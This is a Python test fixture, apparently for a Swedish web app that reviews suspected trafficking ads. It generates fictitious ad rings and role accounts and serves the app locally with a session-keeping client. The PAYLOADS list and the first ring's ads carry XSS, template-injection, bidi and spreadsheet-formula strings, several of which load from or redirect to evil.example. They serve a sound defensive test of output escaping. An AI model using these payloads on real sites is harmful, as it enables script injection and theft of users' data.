"""A made-up partner's file with three rings of ads and hostile texts, colleagues of every role, and a client that keeps a session."""

from __future__ import annotations

import http.client
import json
import re
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import argon2
import uvicorn

from pipeline.casebook.accounts import invite
from pipeline.casebook.book import Casebook
from pipeline.home import Home, find_home
from review.app import build_app
from review.place import Place
from review.policy import ROLES
from review.serve import warm_up
from tests.cli.world import run

START = date.today() - timedelta(days=24)  # the first night of the world
LATE = f"{START + timedelta(days=20):%Y-%m-%d}T02:00:00Z"
PASSWORD = "ett ganska långt lösenord"
COLLEAGUES = {
    "anna": "coordinator", "bertil": "coordinator", "cissi": "approver", "olle": "outreach", "sara": "safeguarding", "dag": "dpo", "ulla": "auditor",
    "disa": "admin", "ana": "analyst",
}  # fmt: skip
ASSESSED = {
    "channel": "message",
    "person_safety": "neutral text",
    "team_safety": "1",
    "interpreter": "behövs inte",
    "legal": "SoL 2025:400",
    "minor_check": "yes",
}
TEXT = (
    "Hej jag heter {name} och är {age} år. Jag är i {city} några dagar och tycker om {like} och långa samtal vid ett fönster. "
    "Ring vår reception på {phone} så ordnar vi en tid som passar dig bra. {more}"
)
RINGS = (
    ("noll sju noll ett sju fyra noll sex noll fem", "lugna stunder, god musik", ("Lina", "Mia", "Eva", "Sara"), ("Helsingborg", "Malmö", "Lund")),
    ("noll sju noll ett sju fyra noll sex tio", "promenader i parken, varma filtar", ("Tess", "Vera", "Nora", "Alma"), ("Örebro", "Västerås", "Uppsala")),
    ("noll sju noll ett sju fyra noll sex femton", "bakning, gamla filmer", ("Ida", "Elsa", "Maja", "Ester"), ("Borås", "Göteborg", "Halmstad")),
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script src=//evil.example/x.js></script>',
    "<iframe src=//evil.example></iframe>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7*7 }}{% raw %}",
    "${7*7}",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</bdi></p></article><form action=//evil.example><button>x</button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example></object>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=//evil.example/x></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202bgnp.exe",
    "\u2066\u2069\u200bdolt",
    "\u001b]0;titel\u0007\u001b[31m",
    '=HYPERLINK("http://evil.example")',
    "<x onclick=alert(1)>",
    "<body onload=alert(1)>",
)


def ring_ads() -> Iterator[dict[str, Any]]:
    """Three rings of twelve ads; every ad of the first carries a hostile text, the others a few words of their own."""
    for ring, (phone, like, names, cities) in enumerate(RINGS):
        for person, name in enumerate(names):
            for stop, city in enumerate(cities):
                number, day = person * 3 + stop, 1 + 8 * stop
                more = " ".join(PAYLOADS[(number * 3 + part) % len(PAYLOADS)] for part in range(3)) if ring == 0 else "Välkommen."
                yield {
                    "site": "exempel",
                    "url": f"https://exempel.example/{ring}/{number}" + ("?q=<script>alert(1)</script>&tel=0701740605" if ring == 0 else ""),
                    "seen": [f"{START + timedelta(days=day + later + ring):%Y-%m-%d}T02:{10 + person}:00Z" for later in range(3)],
                    "title": f"{name} i {city}" + (f" {PAYLOADS[number]}" if ring == 0 else ""),
                    "body": TEXT.format(name=name, age=22 + 5 * person, city=city, phone=phone, like=like, more=more),
                    "name": name,
                    "age": str(22 + 5 * person),
                    "city": city,
                }


def other_ads() -> list[dict[str, Any]]:
    """A possible sign of need, and an ad with an age under 18."""
    return [
        {"site": "exempel", "url": "https://exempel.example/rop", "seen": [LATE], "title": "Hej", "name": "Nora", "age": "26",
         "body": "Ring 070-174 06 30. Jag måste betala tillbaka skulden innan jag får åka hem.", "city": "Malmö"},
        {"site": "exempel", "url": "https://exempel.example/ung", "seen": [LATE], "title": "Ny i stan", "name": "Ella", "age": "17",
         "body": "Jag är 17 år, ring 070-174 06 40.", "city": "Malmö"},
    ]  # fmt: skip


def make_town(folder: Path) -> Path:
    """Make a demo installation `home` after its night, with colleagues and, beside it, the truth. Returns the folder."""
    ads = [*ring_ads(), *other_ads()]
    write_lines(folder / "ads.jsonl", ads)
    for command in (["init", str(folder / "home"), "--for", "demo"], ["import", str(folder / "ads.jsonl")], ["night", "--no-crawl"]):
        code, _, err = run(*command, *(["--home", str(folder / "home")] if command[0] != "init" else []))
        assert code == 0, err
    hire(find_home(folder / "home"))
    (folder / "home-town").mkdir()
    truth = [{"site": ad["site"], "url": ad["url"], "group": ad["url"][:26], "controlled": "/0/" in ad["url"]} for ad in ads]
    write_lines(folder / "home-town" / "truth.jsonl", truth)
    return folder


def hire(home: Home) -> None:
    """Make an account of every role; their passwords are hashed with the least effort that the log-in still reads, so that tests need not wait."""
    assert set(COLLEAGUES.values()) == set(ROLES)
    quick, now = argon2.PasswordHasher(time_cost=1, memory_cost=64, parallelism=1).hash(PASSWORD), datetime.now(UTC).replace(tzinfo=None)
    with Casebook.open(home.casebook, key=home.key("casebook"), audit_key=home.key("audit")) as book:
        for name, role in COLLEAGUES.items():
            invite(book, name, role=role, organisation="Påhittade kommunen", note_signed=True, by="disa", now=now)
        book.con.execute("UPDATE user SET password = ?", (quick,))


@dataclass(slots=True, kw_only=True)
class Clock:
    """The page's clock, which a test may move. `ahead` is in seconds."""

    ahead: float = 0.0

    def __call__(self) -> datetime:
        return datetime.fromtimestamp(time.time() + self.ahead, UTC).replace(tzinfo=None, microsecond=0)


@dataclass(frozen=True, slots=True, kw_only=True)
class Site:
    """A served page: its port, its installation, its clock."""

    port: int
    home: Home
    clock: Clock
    place: Place

    @property
    def base(self) -> str:
        """The address of the page."""
        return f"http://127.0.0.1:{self.port}"

    def client(self, name: str = "", language: str = "sv") -> Client:
        """Return a client, logged in when a name is given."""
        made = Client(port=self.port, jar={"lykta_sprak": language})
        return made.log_in(name) if name else made

    def book(self) -> Casebook:
        """Open the casebook beside the page."""
        return Casebook.open(self.home.casebook, key=self.home.key("casebook"), audit_key=self.home.key("audit"))


@contextmanager
def served(folder: Path) -> Iterator[Site]:
    """Serve an installation's page on a free port of loopback, in a thread."""
    home, clock = find_home(folder), Clock()
    place = Place(home, clock=clock)
    warm_up(place)
    config = uvicorn.Config(lambda: None, host="127.0.0.1", port=0, log_level="error", access_log=False)
    socket = config.bind_socket()
    port = socket.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(
            build_app(place, origins=frozenset({f"http://127.0.0.1:{port}", f"http://localhost:{port}"})),
            log_level="error",
            access_log=False,
            server_header=False,
        )
    )
    thread = threading.Thread(target=server.run, kwargs={"sockets": [socket]}, daemon=True)
    thread.start()
    until = time.monotonic() + 20
    while not server.started and time.monotonic() < until:
        time.sleep(0.01)
    try:
        yield Site(port=port, home=home, clock=clock, place=place)
    finally:
        server.should_exit = True
        thread.join(timeout=10)


@dataclass(frozen=True, slots=True, kw_only=True)
class Reply:
    """An answer: status, headers in small letters, body."""

    status: int
    headers: Mapping[str, str]
    body: bytes

    @property
    def text(self) -> str:
        """The body as text."""
        return self.body.decode()

    @property
    def to(self) -> str:
        """Where the answer moves on to."""
        return self.headers.get("location", "")


@dataclass(slots=True, kw_only=True)
class Client:
    """Somebody at a browser without JavaScript, who keeps cookies and the token of the last page."""

    port: int
    jar: dict[str, str] = field(default_factory=dict)
    token: str = ""
    last: str = ""

    def log_in(self, name: str, password: str = PASSWORD) -> Client:
        reply = self.post("/logga-in", {"name": name, "password": password}, token=False)
        assert reply.status == 303, reply.text
        self.get("/fil/style.css")
        self.get(
            "/ovning" if name not in ("sara", "dag", "ulla", "disa") else {"sara": "/barn", "dag": "/registerutdrag", "ulla": "/logg", "disa": "/konton"}[name]
        )
        return self

    def get(self, path: str) -> Reply:
        reply = self._ask("GET", path, b"", {})
        found = re.search(r'name="csrf" value="([^"]+)"', reply.text) if reply.headers.get("content-type", "").startswith("text/html") else None
        if found:
            self.token, self.last = found.group(1), reply.text
        return reply

    def post(self, path: str, form: Mapping[str, Any], *, token: bool = True, headers: Mapping[str, str] | None = None) -> Reply:
        sent = {**form, **({"csrf": self.token} if token and self.token else {})}
        usual = {"Origin": f"http://127.0.0.1:{self.port}", "Content-Type": "application/x-www-form-urlencoded"}
        return self._ask("POST", path, urlencode(sent, doseq=True).encode(), {**usual, **(headers or {})})

    def _ask(self, method: str, path: str, body: bytes, headers: Mapping[str, str]) -> Reply:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        cookies = "; ".join(f"{name}={value}" for name, value in self.jar.items() if value)
        connection.request(method, path, body or None, {**headers, "Cookie": cookies})
        got = connection.getresponse()
        content = got.read()
        for cookie in got.headers.get_all("set-cookie") or ():
            name, _, value = cookie.split(";")[0].partition("=")
            self.jar[name] = value
        connection.close()
        return Reply(status=got.status, headers={name.lower(): value for name, value in got.headers.items()}, body=content)

    def hidden(self) -> dict[str, str]:
        """Return the hidden fields of the decision form of the last page."""
        form = self.last[self.last.index('id="beslut"') :]
        return {name: unescape(value) for name, value in re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', form[: form.index("</form>")])}

    def open_cluster(self, cluster: str) -> dict[str, str]:
        """Open a cluster and return the hidden fields of its form."""
        reply = self.get(f"/kluster/{cluster}")
        assert reply.status == 200, reply.text
        return self.hidden()

    def decide(self, cluster: str, decision: str = "approve", *, hidden: Mapping[str, str] | None = None, **change: str) -> Reply:
        """Decide as a person would: open the page, fill in, send."""
        fields = {**(hidden if hidden is not None else self.open_cluster(cluster))}
        fields.update({"alternative": "Vänner som delar telefon", "reason": "Rundresa och mall", "decision": decision, **ASSESSED, **change})
        return self.post(f"/kluster/{cluster}", fields)


def write_lines(path: Path, rows: Iterator[dict[str, Any]] | list[dict[str, Any]]) -> Path:
    """Write JSON Lines."""
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), "utf-8")
    return path
